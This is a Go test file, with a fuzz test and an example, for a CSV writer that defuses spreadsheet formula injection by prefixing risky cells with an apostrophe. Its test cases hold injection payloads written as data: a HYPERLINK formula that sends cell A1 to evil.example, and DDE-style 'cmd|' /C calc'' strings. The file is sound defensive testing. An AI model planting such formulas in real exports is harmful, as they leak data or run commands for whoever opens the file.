package standards_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/eops/eops/standards"
)

// TestCSVWriterIsSafeInASpreadsheet writes hostile and awkward cells and
// reads them back as a spreadsheet's CSV import would: formula prefixes
// (= + - @ tab CR, and their full-width forms) come back as text behind an
// apostrophe; commas, quotes and line breaks come back as written.
func TestCSVWriterIsSafeInASpreadsheet(t *testing.T) {
	t.Parallel()
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"＝1+1", "'＝1+1"},
		{"-", "'-"},
		{"Smith, Ann", "Smith, Ann"},
		{`Ann "Nan" Smith`, `Ann "Nan" Smith`},
		{"two\nlines", "two\nlines"},
		{"Ann O'Neil", "Ann O'Neil"},
		{"a = b", "a = b"},
		{"-3", "-3"},
		{"+1.5", "+1.5"},
		{"2/3", "2/3"},
		{"", ""},
	}
	var in, want []string
	for _, c := range cases {
		in, want = append(in, c.in), append(want, c.want)
	}
	kept := append([]string(nil), in...)

	var buf bytes.Buffer
	w := standards.NewCSVWriter(&buf)
	require.NoError(t, w.Write([]string{"header"}))
	require.NoError(t, w.Write(in))
	w.Flush()
	require.NoError(t, w.Error())
	assert.Equal(t, kept, in, "Write leaves the caller's row alone")

	r := csv.NewReader(&buf)
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	assert.Equal(t, want, rows[1])

	// Quoting, byte for byte.
	buf.Reset()
	require.NoError(t, standards.NewCSVWriter(&buf).WriteAll([][]string{{"Smith, Ann", `say "hi"`, "two\nlines", "=1"}}))
	assert.Equal(t, "\"Smith, Ann\",\"say \"\"hi\"\"\",\"two\nlines\",'=1\n", buf.String())
}

func TestCSVCellLeavesNothingAFormula(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
		for _, rest := range []string{"", "1+1", "cmd|' /C calc'!A0", "A1"} {
			got := standards.CSVCell(s + rest)
			assert.True(t, strings.HasPrefix(got, "'"), "%q gives %q", s+rest, got)
		}
	}
}

// FuzzCSVWriter writes any row and reads it back: the row has as many
// cells, each is the cell written or that cell behind one apostrophe, and
// no cell read back starts as a formula unless it is a plain number.
func FuzzCSVWriter(f *testing.F) {
	for _, s := range []string{`=HYPERLINK("x")`, "+1", "-3", "@A1", "\t=1", "\r=1", "＝1", "Smith, Ann", `"q"`, "a\nb", ""} {
		f.Add(s, "plain")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if !utf8.ValidString(a) || !utf8.ValidString(b) {
			t.Skip("not UTF-8: names and titles are checked UTF-8 before they are stored")
		}
		var buf bytes.Buffer
		require.NoError(t, standards.NewCSVWriter(&buf).WriteAll([][]string{{a, b}}))
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		require.NoError(t, err, "%q", buf.String())
		if a == "" && b == "" {
			return // encoding/csv writes an empty line, which reads as no row
		}
		require.Len(t, rows, 1)
		require.Len(t, rows[0], 2)
		for i, in := range []string{a, b} {
			got := rows[0][i]
			// encoding/csv reads \r\n in a quoted field as \n.
			in = strings.ReplaceAll(in, "\r\n", "\n")
			require.True(t, got == in || got == "'"+in, "%q read back as %q", in, got)
			if got != "" && got[0] != '\'' {
				r, _ := utf8.DecodeRuneInString(got)
				require.NotContains(t, []rune{'=', '@', '\t', '\r', '＝', '＋', '－', '＠'}, r, "%q starts a formula", got)
				if r == '+' || r == '-' {
					require.Equal(t, got, standards.CSVCell(got), "%q is left as a plain number", got)
				}
			}
		}
	})
}

// A name that a spreadsheet would run as a formula is written as text; a
// comma or a quote stays in its cell.
func ExampleNewCSVWriter() {
	w := standards.NewCSVWriter(os.Stdout)
	_ = w.Write([]string{"exams officer", "hours"})
	_ = w.Write([]string{`=HYPERLINK("https://evil.example","Eve")`, "-3"})
	_ = w.Write([]string{`Smith, Ann "Nan"`, "12.5"})
	w.Flush()
	if err := w.Error(); err != nil {
		fmt.Println(err)
	}
	// Output:
	// exams officer,hours
	// "'=HYPERLINK(""https://evil.example"",""Eve"")",-3
	// "Smith, Ann ""Nan""",12.5
}
